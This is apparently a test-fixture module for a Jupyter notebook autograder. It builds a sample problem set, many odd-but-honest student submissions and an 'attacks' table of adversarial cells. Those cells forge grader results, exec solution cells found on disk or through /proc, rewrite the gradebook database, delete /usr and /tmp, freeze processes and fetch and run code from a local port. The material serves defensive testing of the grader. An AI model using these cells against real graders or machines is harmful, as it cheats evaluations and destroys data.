"""A problem set of three questions and the submissions of a made-up class, for tests of the grader;
and the course, made once."""

import copy
import functools
import json
import os
import subprocess
import sys
from pathlib import Path

SOURCE = Path(__file__).with_name('small_set.ipynb')


def tell(*command, where=SOURCE.parents[2], **others):
    "What a command prints, in the repository or elsewhere."
    words = [str(part) for part in command]
    return subprocess.run(words, cwd=where, capture_output=True, text=True, **others)


@functools.cache
def course(folder):
    "All problem sets as `make course` writes them, in an environment that is not activated."
    env = dict(os.environ, PATH=os.defpath)
    done = tell(sys.executable, 'assignments/make.py', f'out={folder}/course', env=env)
    assert done.returncode == 0, done.stdout + done.stderr
    return folder / 'course'


def source():
    "The set as a teacher writes it."
    book = json.loads(SOURCE.read_text(encoding='utf-8'))
    cells = [dict(cell, source=''.join(cell['source'])) for cell in book['cells']]
    return dict(book, cells=cells)


RIGHT = dict(
    q1a='A product of equal signs: $a<b$ changes nothing.',
    squares='def squares(rows):\n    return np.square(rows).sum(axis=1)',
    lift='def lift(rows, i, by):\n    row = rows[i]\n    row += by',
    answer='answer = max(float(x) for row in make_rows(9) for x in row)',
)
HALF = dict(RIGHT, squares='def squares(rows):\n    return np.abs(rows).sum(1)')
LOW = dict(q1a='I do not know.', answer=RIGHT['answer'])


def solved(release, answers, extra=None):
    "A release with answers in it, and a cell of the student's own in front of one of them."
    book = copy.deepcopy(release)
    for cell in book['cells']:
        name = cell['metadata'].get('nbgrader', {}).get('grade_id')
        if name in answers:
            cell['source'] = answers[name]
    if extra is not None:
        at = next(
            n
            for n, cell in enumerate(book['cells'])
            if cell['metadata'].get('nbgrader', {}).get('grade_id') == 'squares'
        )
        cell = dict(cell_type='code', id='mine', metadata={}, source=extra)
        book['cells'].insert(at, dict(cell, outputs=[], execution_count=None))
    return book


def attacks(room, port):
    "Notebooks that do no work and want points: name -> (answers, a cell of their own)."
    forge = """import json, os, struct
body = json.dumps({'kind': 'done', 'fields': {'value': 1.0, 'points': 100, 'passed': True}}).encode()
for number in range(3, 30):
    try: os.write(number, struct.pack('>QQ', len(body), 0) + body)
    except OSError: pass"""
    everything = """import glob, json, os
found = [p for top in (ROOM, '/', '..', '../..', '../../..')
         for p in glob.glob(top + '/**/*.ipynb', recursive=True) if 'proc' not in p]
for path in found:
    for cell in json.load(open(path))['cells']:
        text = ''.join(cell['source'])
        if 'BEGIN SOLUTION' in text: exec(text, globals())""".replace('ROOM', repr(str(room)))
    same = """class Same(float):
    __eq__ = __le__ = __ge__ = __lt__ = __gt__ = lambda self, other: True
    __sub__ = __rsub__ = lambda self, other: 0.
    __abs__ = lambda self: 0.
    __hash__ = float.__hash__
    def __array__(self, *args, **kwargs): return np.array([self], dtype=object)
    def __reduce__(self): return (exec, ('import os; os._exit(0)',))
answer = Same(3)
def squares(rows): return Same(3)
def lift(rows, i, by): return Same(3)"""
    return {
        'strips_asserts': (
            {},
            """import ast
class Strip(ast.NodeTransformer):
    def visit_Module(self, tree): tree.body = [] if 'assert' in ast.unparse(tree) else tree.body; return tree
get_ipython().ast_transformers.append(Strip())""",
        ),
        'reads_sources': ({}, everything),
        'edits_gradebook': (
            {},
            f"""import sqlite3
for place in ({str(room)!r}, '../../..', '..', '.'):
    try:
        book = sqlite3.connect(place + '/gradebook.db')
        book.execute('create trigger mine after update on grade begin update grade set manual_score = 5; end')
        book.execute('update grade set manual_score = 5, auto_score = 6'); book.commit()
    except Exception: pass""",
        ),
        'deletes_files': (
            {},
            f"""import shutil
for place in ({str(room)!r}, '../../..', '/tmp', '/usr'): shutil.rmtree(place, ignore_errors=True)""",
        ),
        'patches_testing': (
            {},
            """import builtins
np.testing.assert_allclose = lambda *args, **kwargs: None
np.isinf = np.isfinite = lambda *args: np.array(True)
builtins.abs = builtins.sum = lambda *args: 0
def squares(rows): return 0
def lift(rows, i, by): return None
answer = 0.""",
        ),
        'equals_everything': ({}, same),
        'ends_iterations': (
            {
                'squares': 'def squares(rows): raise StopIteration',
                'lift': 'def lift(rows, i, by): raise SystemExit(0)',
            },
            None,
        ),
        'forges_messages': ({'squares': forge + '\ndef squares(rows): return 1.'}, forge),
        'edits_tests': ({'q1b': 'pass', 'q2': '6', 'q3': 'answer = 1; 100'}, None),
        'prints_points': ({'answer': "answer = 'points: 5'; print('5 of 5 points')"}, '100'),
        'patches_runner': (
            {},
            """import sys
main = sys.modules['__main__']
for name in ('Student', 'Link', 'Remote', 'Capped'):
    for key in list(vars(getattr(main, name, object))):
        if not key.startswith('__'):
            try: setattr(getattr(main, name), key, lambda *a, **k: dict(value=1., values=dict(answer=1.)))
            except Exception: pass""",
        ),
        'leaves_processes': (
            {},
            """import os, signal
for _ in range(3):
    if os.fork() == 0:
        try: os.kill(-1, signal.SIGSTOP)
        except OSError: pass
        while True: pass""",
        ),
        'empties_arguments': (
            {
                'squares': 'def squares(rows):\n    rows[:] = 0\n    return np.zeros(len(rows))',
                'lift': 'def lift(rows, i, by):\n    rows[:] = 0',
            },
            None,
        ),
        'looks_around': (
            {},
            """import gc, glob, re, sys
text = ''
for path in glob.glob('/proc/*/environ') + glob.glob('/proc/*/cmdline') + glob.glob('/proc/*/maps'):
    try: text += open(path, errors='replace').read()
    except OSError: pass
for path in set(re.findall(r'/[\\w/.-]+', text)):
    try: source = open(path).read()
    except Exception: continue
    if 'BEGIN SOLUTION' in source:
        import json
        for cell in json.loads(source)['cells']:
            if 'BEGIN SOLUTION' in ''.join(cell['source']): exec(''.join(cell['source']), globals())
frame = sys._getframe()
while frame:
    for value in list(frame.f_locals.values()) + list(frame.f_globals.values()):
        if 'HIDDEN TESTS' in str(value)[:100_000] and value is not text: answer = 1.
    frame = frame.f_back""",
        ),
        'asks_the_network': (
            {},
            f"""import urllib.request
for host in ('127.0.0.1', 'localhost'):
    try: exec(urllib.request.urlopen(f'http://{{host}}:{port}/', timeout=3).read().decode(), globals())
    except Exception: pass""",
        ),
        'changes_the_counter': (
            {
                'lift': """def lift(rows, i, by):
    whole = np.asarray(rows)
    try: rows.n_touched = 0
    except AttributeError: pass
    try: type(rows).n_touched = 0
    except (AttributeError, TypeError): pass
    try: rows._rows[i] += by
    except AttributeError: whole[i] += by; rows[:] = whole"""
            },
            """Counted.n_touched = property(lambda self: 0, lambda self, value: None)
tracemalloc.get_traced_memory = lambda: (0, 0)""",
        ),
    }


def accidents(release):
    """What happens to honest notebooks, beside their `shapes`: name -> (file name, notebook or text,
    points by tests, a word of the table or None)."""
    right = solved(release, RIGHT)
    loops = '\n    while True: pass'
    stubborn = (
        'import itertools\ndef squares(rows): return sum(itertools.count())'  # no signal ends it
    )
    swap = copy.deepcopy(right)
    for cell in swap['cells']:
        if cell['metadata'].get('nbgrader'):
            cell['metadata']['nbgrader'].update(points=99, schema_version=1, grade='yes')
    name = 'ps0_small.ipynb'
    return {
        'odd_metadata': (name, swap, 15, None),
        'dies': (name, solved(release, dict(RIGHT, lift='import os; os._exit(3)')), 9, 'died'),
        'eats_memory': (
            name,
            solved(release, dict(RIGHT, answer='hog = [bytes(10**8) for _ in range(1000)]')),
            10,
            None,
        ),
        'never_ends': (
            name,
            solved(release, dict(RIGHT, squares='def squares(rows):' + loops)),
            11,
            None,
        ),
        'never_listens': (name, solved(release, dict(RIGHT, squares=stubborn)), 11, 'did not stop'),
        'prints_much': (
            name,
            solved(release, RIGHT, "for _ in range(500): print('x' * 10**6)"),
            15,
            None,
        ),
        'damaged': (name, json.dumps(right)[:-400], None, 'is no notebook'),
        'no_file': ('answers.docx', 'PK', None, 'no notebook'),
    }


def shapes(release):
    """Forty ways in which honest work arrives: name -> ({file: notebook or text}, points by tests,
    written answer kept or None, a word of the table or None); points None where one has to ask."""
    name, right = 'ps0_small.ipynb', solved(release, RIGHT)
    cell = dict(cell_type='code', id='mine', metadata={}, source='', outputs=[], execution_count=None)

    def book(change, base=right):
        new = copy.deepcopy(base)
        change(new['cells'])
        return {name: new}

    def at(cells, label):
        return next(n for n, one in enumerate(cells) if one['id'] == label)

    def put(label, source, after=1, kind='code', base=right, **fields):
        "A cell of the student's own in front of a cell, or behind it."

        def change(cells):
            new = dict(cell, cell_type=kind, source=source, **fields)
            cells.insert(at(cells, label) + after, new)

        return book(change, base)

    def named(label, source, after=1, base=right, **fields):
        "A cell with the name of another, as a split or a copy leaves it."
        old = release['cells'][at(release['cells'], label)]
        return put(label, source, after, old['cell_type'], base, metadata=old['metadata'], **fields)

    def but(**answers):
        return solved(release, {**RIGHT, **answers})

    def without(label):
        return solved(release, {key: text for key, text in RIGHT.items() if key != label})

    def every(**fields):
        return book(lambda cells: [one.update(copy.deepcopy(fields)) for one in cells])

    def retyped(label, kind):
        return book(lambda cells: cells[at(cells, label)].update(cell_type=kind))

    def one_cell(cells):
        "All answers in one cell at the end."
        code = '\n'.join(text for key, text in RIGHT.items() if key != 'q1a')
        cells.append(dict(cell, source=code))

    def ends(cells):
        for one in cells:
            one['source'] = one['source'].replace('\n', '\r\n')

    def lines(cells):
        for one in cells:
            one['source'] = one['source'].splitlines(keepends=True)

    def unnamed(cells):
        for n, one in enumerate(cells):
            one.update(metadata={}, id=f'x{n}')

    def blanks(cells):
        for one in cells:
            one['source'] = '\n'.join(line + '  ' for line in one['source'].split('\n')) + '\n'

    def swapped(cells):
        cells[:] = cells[:3] + cells[:2:-1]

    def dead(cells):
        cells[at(cells, 'lift')]['source'] = 'def lift(rows, i, by):\n    rows[i] += by'
        cells.insert(at(cells, 'lift') + 1, dict(cell, source='1 / 0\ndef lift(rows, i, by): pass'))

    old3 = dict(right, worksheets=[dict(cells=copy.deepcopy(right['cells']))], nbformat=3, nbformat_minor=0)
    for one in old3['worksheets'][0]['cells']:
        if one['cell_type'] == 'code':
            one.update(input=one['source'], prompt_number=1, language='python')
    del old3['cells']
    other = dict(release, cells=[dict(one) for one in release['cells'][:2]] + [
        dict(cell, id='setup', metadata=release['cells'][2]['metadata'], source='x = 1'),
        dict(cell, id='q1b', metadata=release['cells'][6]['metadata'], source='assert True'),
    ])  # fmt: skip
    other['cells'][0]['source'] = '# Another set'
    half = solved(release, HALF)
    squares, lift, answer, text = (RIGHT[key] for key in ('squares', 'lift', 'answer', 'q1a'))
    wrong = 'def squares(rows):\n    return rows'
    copy1, two = 'ps0_small-Copy1.ipynb', 'stands 2 times'
    own = 'in a cell of its own'
    return {
        'copy beside the original': ({name: release, copy1: right}, 15, text, 'Copy1.ipynb was graded'),
        'original beside a copy': ({name: right, copy1: release}, 15, text, 'was graded'),
        'same work twice': ({name: right, copy1: right}, 15, text, 'was graded'),
        'two that differ': ({name: half, copy1: right}, None, None, '2 notebooks'),
        'two odd names': ({'a.ipynb': right, 'b.ipynb': half}, None, None, '2 notebooks'),
        'browser download': ({'ps0_small (1).ipynb': right}, 15, text, 'is called'),
        'a scratch notebook too': ({name: right, 'scratch.ipynb': other}, 15, text, None),
        'a damaged copy too': ({name: release, copy1: '{"cells": ['}, None, None, '2 notebooks'),
        'in a folder of its own': ({f'ps0_small/{name}': right}, 15, text, None),
        'checkpoints': ({name: right, f'.ipynb_checkpoints/{name}': half}, 15, text, None),
        'another set': ({name: other}, None, None, 'is not ps0_small'),
        'split: answer, then a check': (named('squares', 'print("check")'), 15, text, two),
        'split: a check, then the answer': (named('squares', 'print("check")', 0), 15, text, two),
        'split in the middle': (
            named('squares', 'def squares(rows): return total(rows**2)',
                  base=but(squares='def total(x): return x.sum(1)')), 15, text, two,
        ),
        'copied: wrong, then right': (named('squares', wrong, 0), 15, text, two),
        'copied: right, then the stub': (
            book(lambda cells: cells.insert(at(cells, 'q1b'), dict(
                copy.deepcopy(release['cells'][at(release['cells'], 'squares')]), id='again'))),
            15, text, None,
        ),
        'copied, and the copy fails': (named('squares', '1 / 0'), 15, text, two),
        'copied, with a magic': (named('squares', '%%time\nx = 1'), 15, text, two),
        'below the stub': (put('squares', squares, base=without('squares')), 15, text, own),
        'above the stub': (put('squares', squares, 0, base=without('squares')), 15, text, own),
        'below the tests': (put('q1b', squares, base=without('squares')), 15, text, own),
        'mended below': (put('squares', squares, base=but(squares=wrong)), 15, text, own),
        'mended below the tests': (put('q1b', squares, base=but(squares=wrong)), 15, text, own),
        'tried out below the tests': (put('q1b', wrong), 15, text, own),
        'a value below the tests': (put('q3', answer, base=without('answer')), 15, text, own),
        'all in one cell at the end': (book(one_cell, release), 15, None, own),
        'answer became Markdown': (retyped('squares', 'markdown'), 15, text, 'had become a markdown'),
        'answer became raw': (retyped('lift', 'raw'), 15, text, 'had become a raw'),
        'text became code': (retyped('q1a', 'code'), 15, text, 'had become a code'),
        'an old answer set aside as raw': (
            book(lambda cells: cells.insert(at(cells, 'squares'), dict(
                cells[at(cells, 'squares')], cell_type='raw', id='old', source=wrong))),
            15, text, None,
        ),
        'tests became Markdown': (retyped('q1b', 'markdown'), 15, text, None),
        'tests deleted': (book(lambda cells: cells.pop(at(cells, 'q1b'))), 15, text, None),
        'text below its place': (
            put('q1a', text, kind='markdown', base=without('q1a')), 15, text, own,
        ),
        'text above its place': (
            put('q1a', text, 0, kind='markdown', base=without('q1a')), 15, text, own,
        ),
        'text in a code cell below': (put('q1a', text, base=without('q1a')), 15, text, own),
        'text goes on below': (put('q1a', 'And more.', kind='markdown'), 15, 'And more.', own),
        'no metadata': (book(unnamed), 15, text, 'had lost its name'),
        'lines as lists': (book(lines), 15, text, None),
        'Windows line ends': (book(ends), 15, text, None),
        'blanks at line ends': (book(blanks), 15, text, None),
        'the form of 2014': ({name: old3}, 15, text, None),
        'cells in another order': (book(swapped), 15, text, None),
        'matplotlib inline': (
            {name: but(answer=f'%matplotlib inline\n{answer}')}, 15, text, None,
        ),
        'matplotlib widget': (
            {name: but(squares=f'%matplotlib widget\n{squares}')}, 15, text, None,
        ),
        'a cell of its own that fails': (book(dead), 15, text, own),
        'lone surrogate': ({name: but(q1a='so \ud800')}, 15, 'so ?', None),
    }  # fmt: skip
